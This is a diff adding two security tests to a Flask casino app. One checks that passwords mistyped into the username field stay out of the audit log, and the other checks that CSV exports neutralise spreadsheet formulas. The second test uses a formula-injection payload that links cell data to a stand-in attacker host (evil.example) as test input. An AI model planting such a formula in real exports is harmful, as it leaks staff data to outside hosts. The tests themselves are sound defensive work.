@@ -6,6 +6,9 @@ templates without inline code, redirects only to this site, and errors without t
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import logging
 import re
 import shutil
@@ -36,6 +39,7 @@ from web_support import register_page
 
 from sota_casino import config
 from sota_casino.factory import create_app
+from sota_casino.models import AuditEntry
 from sota_casino.models import LoginAttempt
 from sota_casino.models import Signup
 from sota_casino.models import User
@@ -108,6 +112,35 @@ def test_no_password_is_ever_logged_audited_or_stored_in_clear(
         assert secret not in caplog.text, secret
         assert secret not in dump, secret
         assert secret not in session_cookie(client), secret
+
+
+def test_a_password_typed_into_the_name_field_is_not_kept_in_the_audit_log(
+    app: Flask, client: FlaskClient
+) -> None:
+    # A common slip: the password goes into the name field. The log keeps every entry for
+    # good and shows them to auditors, in the console and its exports.
+    register_page(client, "alice")
+    post_form(client, "/auth/logout")
+    post_form(client, "/auth/login", {"username": PASSWORD, "password": "alice"})
+    client.post("/api/v1/auth/token", json={"username": PASSWORD, "password": "alice"})
+    post_form(client, "/auth/login", {"username": "ALICE", "password": "a wrong guess"})
+    auditor = client_as(app, add_user(app, "audrey", "auditor"))
+    page = auditor.get("/operator/audit").get_data(as_text=True)
+    export = auditor.get("/api/v1/operator/audit/export").get_data(as_text=True)
+    assert export.count("user.login_failed") == 3
+    assert PASSWORD not in page and PASSWORD not in export
+    # A failure on a real account still names it (its own name, however it was typed).
+    session = db(app)
+    try:
+        failures = [
+            e.data
+            for e in session.scalars(
+                select(AuditEntry).where(AuditEntry.action == "user.login_failed")
+            )
+        ]
+    finally:
+        session.close()
+    assert [json.loads(f)["username"] for f in failures] == [None, None, "alice"]
 
 
 # --- sessions -----------------------------------------------------------------------------------
@@ -761,3 +794,31 @@ def test_the_owner_failing_at_home_is_throttled_at_home_too(make_app: Any) -> No
     for _ in range(3):
         assert api_login(client, "erin", "wrong guess", "127.0.0.1").status_code == 401
     assert api_login(client, "erin", PASSWORD, "127.0.0.1").status_code == 429
+
+
+def test_a_players_text_in_a_staff_csv_download_is_never_a_spreadsheet_formula(
+    app: Flask, client: FlaskClient
+) -> None:
+    # A client seed is the player's free text; staff open CSV downloads in spreadsheets, which
+    # run a cell starting with =, +, -, @ (or a tab or return before one) as a formula.
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"verify")'
+    alice = api_register(client, "alice")["id"]
+    token = client.post("/api/v1/auth/token", json={"username": "alice", "password": PASSWORD})
+    auth = {"Authorization": f"Bearer {token.get_json()['token']}"}
+    for seed in (formula, "+1+1", "@SUM(1)", "\t=1", "-2-3"):
+        rotated = client.post("/api/v1/fairness/rotate", json={"client_seed": seed}, headers=auth)
+        assert rotated.status_code == 200, rotated.get_json()
+    operator = client_as(app, add_user(app, "olga", "operator"))
+    url = f"/operator/players/{alice}/lists/seed_pairs/export"
+    rows = list(csv.DictReader(io.StringIO(operator.get(f"{url}?format=csv").get_data(True))))
+    seeds = [row["client_seed"] for row in rows if row["client_seed"]]
+    assert seeds[-5:] == ["'" + formula, "'+1+1", "'@SUM(1)", "'\t=1", "'-2-3"]
+    # JSON Lines is for programs: the seed as the player sent it.
+    lines = operator.get(f"{url}?format=jsonl").get_data(as_text=True).splitlines()
+    assert [json.loads(line)["client_seed"] for line in lines][-5:] == [
+        formula,
+        "+1+1",
+        "@SUM(1)",
+        "\t=1",
+        "-2-3",
+    ]
